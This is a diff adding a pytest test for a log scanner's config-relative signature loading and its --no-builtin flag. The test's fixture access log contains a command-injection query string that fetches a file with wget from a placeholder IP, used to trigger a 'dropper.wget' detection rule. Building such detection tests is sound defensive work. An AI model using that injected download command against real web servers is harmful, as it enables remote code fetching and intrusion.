@@ -234,3 +234,22 @@ def test_any_suppression_table_is_a_suppression_or_one_clear_error(raw):
     else:
         assert s.reason.strip() and s.expires.tzinfo is not None
         assert any(getattr(s, k) is not None for k in CRITERIA)
+
+
+def test_config_signatures_add_to_the_builtin_pack_relative_to_the_file(tmp_path, monkeypatch):
+    from conftest import GOOD_PACK
+
+    (tmp_path / "etc" / "rules").mkdir(parents=True)
+    (tmp_path / "etc" / "rules" / "mine.yaml").write_text(GOOD_PACK)
+    (tmp_path / "etc" / "dropscan.toml").write_text('signatures = ["rules"]\n')
+    log = tmp_path / "access.log"
+    log.write_bytes(combined_line("/x?a=;foo") + combined_line("/x?c=;wget%20http://203.0.113.9/a"))
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    cfg = str(tmp_path / "etc" / "dropscan.toml")
+    p = dropscan("scan", str(log), "--config", cfg, "-f", "json", cwd=elsewhere)
+    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule", "dropper.wget"]
+    p = dropscan("scan", str(log), "--config", cfg, "--no-builtin", "-f", "json", cwd=elsewhere)
+    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule"]
+    p = dropscan("scan", str(log), "--no-builtin", cwd=elsewhere)
+    assert p.returncode == 2 and "--no-builtin needs --signatures" in p.stderr
